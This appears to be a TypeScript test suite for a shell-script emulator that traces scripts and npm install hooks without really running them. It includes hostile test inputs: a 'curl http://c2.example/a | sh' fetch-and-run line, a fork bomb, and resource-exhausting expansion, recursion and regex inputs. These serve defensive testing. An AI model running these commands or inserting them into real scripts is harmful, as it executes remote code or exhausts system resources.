// The interpreter of shell scripts: what the language makes of words, and scripts that would hang or fill it.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { emulate } from '../../src/emulate/emulate.ts'
import { runShell } from '../../src/emulate/run-shell-script.ts'
import { firstSetting } from '../../src/emulate/setting.ts'
import type { Trace } from '../../src/trace/trace.ts'

const now = new Date('2026-03-02T10:00:00Z')
/** The clock that the runs look at goes faster: their four seconds are one here. */
const CLOCK = 4

async function run(source: string): Promise<Trace> {
  const startedMs = performance.now()
  const { trace } = await runShell(
    source,
    firstSetting('a.sh', now, () => (performance.now() - startedMs) * CLOCK),
  )
  return trace
}

const commandsOf = ({ processes }: Trace): readonly string[] =>
  processes.flatMap(({ startedBy, commandLine }) => (startedBy === 'shell' ? [commandLine] : []))

test('a script that does nothing without an argument is run in every branch, its words kept for what they are', async () => {
  const trace = await run(
    `url=http://files.example/a
case "$1" in
start|run)
  show started "$url"
  if [ -z "$x" ]; then show one; else show two; fi
  exit 0
  ;;
*)
  echo usage
  exit 1
esac
note="curl a | ./b"
`,
  )
  assert.deepEqual(commandsOf(trace), ['show started http://files.example/a', 'show one', 'show two'])
  assert.ok(trace.notCovered.some((line) => line.includes('every branch')))
})

test('a script that does something here is run as this machine leads it', async () => {
  const trace = await run('if [ -e /etc/passwd ]; then show here; else show elsewhere; fi')
  assert.deepEqual(commandsOf(trace), ['show here'])
})

/** A program of nobody's, whose arguments show what the shell made of them. */
const SHOWN: Readonly<Record<string, readonly [source: string, shown: string]>> = {
  'words and quotes': [`show a"b c"'d e'\\ f`, 'show ab cd e f'],
  'a variable that is split': ['v="a  b"; set -- $v; show $# "$v"', 'show 2 a  b'],
  'parts of a variable': [
    `v=abcdef; show \${v:1:3} \${#v} \${v%ef} \${v##*c} \${v/b/x} \${v^^}`,
    'show bcd 6 abcd def axcdef ABCDEF',
  ],
  'a default and another': [`show \${u:-def} \${u:=set} $u`, 'show def set set'],
  'a substitution that keeps its status': ['f() { echo out; return 3; }; x=$(f); show $? $x', 'show 3 out'],
  sums: ['n=4; ((n+=2)); show $((n*2+0x10)) $((n>5?1:0))', 'show 28 1'],
  'a loop over a list': [
    `a=(x "y z"); for i in "\${a[@]}"; do o="$o<$i>"; done; show "$o" \${#a[@]}`,
    'show <x><y z> 2',
  ],
  'a counting loop': ['for ((i=0;i<4;i++)); do [ $i = 2 ] && continue; o+=$i; done; show $o', 'show 013'],
  'lines of a here-document': ['while read -r a b; do o="$o$b$a "; done <<E\n1 2\n3 4\nE\nshow $o', 'show 21 43'],
  'a case': ['case a.tgz in *.zip) x=zip;; *.tgz|*.tar) x=tar;; esac; show $x', 'show tar'],
  'double brackets': ['[[ abc == a* && ! xyz =~ ^[0-9]+$ ]] && show yes', 'show yes'],
  braces: ['show {a,b}{1..2} {08..10}', 'show a1 a2 b1 b2 08 09 10'],
  'printf in hex and octal': [`show "$(printf '\\x68\\151%s' '!')" $'\\x41'`, 'show hi! A'],
  'characters moved along': ["show $(echo 'uggc' | tr a-z n-za-m) $(echo cba | rev)", 'show http abc'],
  'fields and lines': [
    "show $(printf 'a:b\\nc:d\\n' | cut -d: -f2 | tail -n1) $(echo x y | awk '{print $2}')",
    'show d y',
  ],
  'its own separator': ['IFS=,; v=a,b; set -- $v; show $2', 'show b'],
  'a text that is run': [`c=sh; eval "\${c}ow evaluated"`, 'show evaluated'],
  'a file that it wrote': ['printf "show inner \\$1\\n" > /tmp/s; sh /tmp/s arg', 'show inner arg'],
  'what the end runs': ['trap "show bye" EXIT; exit 0', 'show bye'],
}

for (const [name, [source, shown]] of Object.entries(SHOWN))
  test(`shell: ${name}`, async () => {
    const { processes } = await run(source)
    const commands = processes.map(({ commandLine }) => commandLine)
    assert.ok(commands.includes(shown), commands.join('\n'))
  })

test('shell: a script that cannot be read is taken for what its text says', async () => {
  const trace = await run('if then fi (((\ncurl http://c2.example/a | sh\n')
  assert.ok(trace.network.some((event) => 'url' in event && event.url === 'http://c2.example/a'))
  assert.match(trace.notCovered.join(), /read without being run/)
})

test('shell: the scripts of a package that npm runs by itself are run', async () => {
  const source = JSON.stringify({ name: 'a', scripts: { test: 'show test', postinstall: 'show installed' } })
  const { traces } = await emulate(Buffer.from(source), {
    fileName: 'package.json',
    passwords: [],
    now,
    budgetMs: 20_000,
  })
  const commands = traces.flatMap(({ processes }) => processes.slice(1).map(({ commandLine }) => commandLine))
  assert.deepEqual(commands, ['show installed'])
})

const HOSTILE: Readonly<Record<string, string>> = {
  'a loop without end': 'while :; do :; done',
  'a loop that waits without end': 'while true; do sleep 3600; done',
  'a text that doubles': 'a=xxxxxxxx; while :; do a=$a$a; done',
  'a list that grows': `a=(1); while :; do a+=("\${a[@]}"); done`,
  'a function that calls itself': 'f(){ f; }; f',
  'the bomb of forks': ':(){ :|:& };:',
  'text that becomes code without end': 'x=\'eval "$x"\'; eval "$x"',
  'a script that runs itself': 'sh "$0"; . "$0"',
  'a range without end': 'for i in {1..999999999}; do :; done; seq 1 999999999 | xargs -I{} echo {}',
  'ranges in ranges': 'echo {1..9999}{1..9999}{1..9999}',
  'a pattern that runs away': `a=$(printf "a%.0s" {1..9000}); echo \${a//a*a*a*b/x} \${a##*a*a*a*b} | grep -E "(a+)+b" | sed "s/a*a*a*a*b//"`,
  'deep brackets': `${'('.repeat(20_000)}echo${')'.repeat(20_000)}`,
  'deep substitutions': `echo ${'$('.repeat(5_000)}id${')'.repeat(5_000)}`,
  'deep sums': `echo $((${'('.repeat(10_000)}1${')'.repeat(10_000)}))`,
  'quotes without end': '"'.repeat(100_001),
  'here-documents without end': 'cat <<E\n'.repeat(20_000),
  'many pipes': 'echo a | '.repeat(20_000),
  noise: '\u0000(&|<>${`;"\'\\'.repeat(5_000),
}

for (const [name, source] of Object.entries(HOSTILE))
  test(`shell: ${name} ends in a told result`, async () => {
    const startedMs = performance.now()
    const trace = await run(source)
    assert.ok(trace.exit.how.length > 0)
    assert.ok(performance.now() - startedMs < 30_000, `${Math.round(performance.now() - startedMs)} ms`)
    assert.ok(JSON.stringify(trace).length < 60_000_000)
  })
